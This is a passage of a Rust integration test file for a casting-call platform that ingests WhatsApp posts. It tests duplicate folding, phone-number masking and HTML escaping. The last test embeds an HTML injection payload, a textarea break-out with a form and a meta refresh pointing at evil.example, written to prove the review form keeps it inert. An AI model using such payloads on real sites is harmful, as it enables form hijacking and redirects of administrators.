    let mut ops = crate::common::world::admin(&offline, "ops@takeone.sa").await;
    let source = whatsapp_source(&mut ops, "120363000000000007@g.us").await;
    api(&mut ops, "POST", &format!("{SOURCES}/{source}/run"), None).await;
    let (items, error) = fetched(&offline, &source).await;
    assert_eq!(items, 0);
    assert!(error.unwrap().contains("TAKEONE_WHAPI_TOKEN"), "the source says polling is not configured");
    let (_, page) = ops.get("/ar/admin/twin/sources").await;
    assert!(page.contains("TAKEONE_WHAPI_TOKEN"), "and the sources page shows it");
}

/// Twenty copies of one post arriving together (the workers take several at once): one
/// candidate, nineteen folded into it, never two candidates for the same text.
#[tokio::test]
async fn simultaneous_reposts_are_folded_into_one_candidate() {
    let app = TestApp::spawn_configured(&[("TAKEONE_WHAPI_WEBHOOK_SECRET", WEBHOOK_SECRET)]).await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let group = "120363000000000008@g.us";
    whatsapp_source(&mut admin, group).await;
    let messages: Vec<Value> = (0..20).map(|i| whapi_body(&format!("copy{i}"), group, POST)["messages"][0].clone()).collect();
    let body = json!({ "messages": messages, "event": { "type": "messages", "event": "post" }, "channel_id": "TEST-CHANNEL" });
    let res = reqwest::Client::new()
        .post(app.url("/webhooks/whapi"))
        .header("authorization", format!("Bearer {WEBHOOK_SECRET}"))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.json::<Value>().await.unwrap()["added"], 20);
    settled(&app).await;
    let by_status: Vec<(String, i64)> =
        sqlx::query_as("SELECT status, count(*) FROM ingestion_items GROUP BY status ORDER BY status").fetch_all(&app.db).await.unwrap();
    assert_eq!(by_status, [("candidate".to_string(), 1), ("duplicate".to_string(), 19)]);
    let reposts: i32 = sqlx::query_scalar("SELECT repost_count FROM ingestion_candidates").fetch_one(&app.db).await.unwrap();
    assert_eq!(reposts, 19);
}

#[tokio::test]
async fn phone_numbers_in_any_published_field_of_a_gathered_call_are_masked() {
    let app = TestApp::spawn().await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let source = whatsapp_source(&mut admin, "120363000000000009@g.us").await;
    upload(&mut admin, &source, ANDROID_AR).await;
    settled(&app).await;
    let first = pending(&app).await.remove(0);

    // One spelling per field: spaces, dots, Arabic-Indic digits, +966, dashes, brackets.
    let spelled = [
        ("form[title]", "كاستنج جدة 055.555.0191"),
        ("form[company]", "استوديو النخلة ٠٥٥٥٥٥٠١٩١"),
        ("form[description]", "مطلوب ممثلون لمسلسل درامي في جدة، للتواصل +966 55 555 0191 قبل الموعد"),
        ("form[roles][0][name]", "الأم 055-555-0191"),
        ("form[roles][0][description]", "ترسل الصور إلى (055) 555 0191"),
        ("form[questions][0]", "هل تواصلت مع ۰۵۵۵۵۵۰۱۹۱ من قبل؟"),
        ("form[contact]", "واتساب 0555550191"),
    ];
    let mut form: Vec<(String, String)> = call_form("", "", "publish").into_iter().filter(|(k, _)| k != "call_id").collect();
    form.retain(|(k, _)| !spelled.iter().any(|(s, _)| s == k));
    form.extend(spelled.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    form.push(("id".into(), first.clone()));
    form.push(("next".into(), String::new()));
    let res = admin.post_owned("/api/fn/approve_candidate", &form).await;
    assert_eq!(res.status(), StatusCode::FOUND, "{}", plain(&res.text().await.unwrap_or_default()));
    let call: uuid::Uuid = sqlx::query_scalar("SELECT casting_call_id FROM ingestion_candidates WHERE id = $1::uuid")
        .bind(&first)
        .fetch_one(&app.db)
        .await
        .unwrap();
    for lang in ["ar", "en"] {
        let (status, page) = app.browser().get(&format!("/{lang}/casting-calls/{call}")).await;
        assert_eq!(status, StatusCode::OK);
        let digits: String = page
            .chars()
            .map(|c| match c {
                '٠'..='٩' => char::from(b'0' + (c as u32 - 0x660) as u8),
                '۰'..='۹' => char::from(b'0' + (c as u32 - 0x6F0) as u8),
                c => c,
            })
            .collect();
        assert!(!digits.contains("0191"), "a number reached the public page in /{lang}/: {}", texts(&page, "main").join(" "));
        assert!(plain(&page).contains("كاستنج جدة •••"), "the title is kept around the masked number");
    }
    let (_, api_body) = api(&mut app.browser(), "GET", &format!("/api/v1/casting-calls/{call}"), None).await;
    assert!(!api_body.to_string().contains("0191"), "nor in the API: {api_body}");
}

#[tokio::test]
async fn html_injection_through_a_gathered_post_does_not_escape_the_review_form() {
    let app = TestApp::spawn().await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let source = whatsapp_source(&mut admin, "120363000000000010@g.us").await;
    let export = "2/3/25, 10:02 - Messages and calls are end-to-end encrypted. No one outside of this chat, not even WhatsApp, can read or listen to them. Tap to learn more.\n\
        2/3/25, 11:30 - Faisal Alharbi: Casting call: actors needed for a drama series shooting in Jeddah. Male, 25-35 years old. Paid 2000 SAR per day. \
        Apply before 20/3/2025 </textarea><form data-injected=\"1\" action=\"https://evil.example\"><input name=\"x\"></form><meta data-injected=\"1\" http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n";
    upload(&mut admin, &source, export).await;
    settled(&app).await;
    let queue = pending(&app).await;
    assert_eq!(queue.len(), 1, "the post is a candidate");
    let (status, page) = admin.get(&format!("/ar/admin/twin/queue/{}", queue[0])).await;
    assert_eq!(status, StatusCode::OK);
    assert!(texts(&page, "[data-injected]").is_empty(), "the gathered text stays text in the review form");
    let doc = scraper::Html::parse_document(&page);
    let sel = scraper::Selector::parse("textarea").unwrap();
    assert!(doc.select(&sel).any(|t| t.text().collect::<String>().contains("</textarea><form data-injected")), "and reads back as typed");
}
